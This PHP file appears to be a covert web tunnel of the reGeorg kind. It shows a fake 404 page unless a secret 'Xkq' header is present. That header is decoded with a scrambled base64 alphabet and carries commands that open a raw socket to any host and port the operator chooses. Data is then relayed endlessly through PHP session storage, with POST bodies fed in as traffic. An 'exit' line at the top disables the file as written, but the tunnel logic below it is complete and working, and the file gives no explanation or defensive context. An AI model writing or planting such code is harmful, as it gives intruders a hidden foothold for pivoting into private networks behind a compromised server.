<?php exit; /* inert */ 
$en = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
$de = "BE0y6ZOPrLcNg3fXW5aYIpM4tVhwKJdqsoDzRGlQxnA/vCTFk1S2UmHb7ij8u9+e";
$h = apache_request_headers();
if (!isset($h['Xkq'])) { header('HTTP/1.1 404 Not Found'); exit('<h1>Not Found</h1>'); }
$info = explode('|', base64_decode(strtr($h['Xkq'], $de, $en)));
if ($info[0] === 'c') {
    $s = fsockopen($info[1], (int) $info[2], $no, $st, 3);
    stream_set_blocking($s, false);
    session_start();
    $mark = substr($info[3], 0, 22);
    $_SESSION[$mark] = 1; session_write_close();
    while (true) {
        session_start(); $wb = $_SESSION['w' . $mark] ?? ''; $_SESSION['w' . $mark] = ''; session_write_close();
        if ($wb !== '') fwrite($s, $wb);
        if (($b = fread($s, 1024)) !== '') { session_start(); $_SESSION['r' . $mark] .= $b; session_write_close(); }
    }
} elseif ($info[0] === 'f') {
    session_start(); $_SESSION['w' . $info[1]] .= base64_decode(strtr(file_get_contents('php://input'), $de, $en));
}
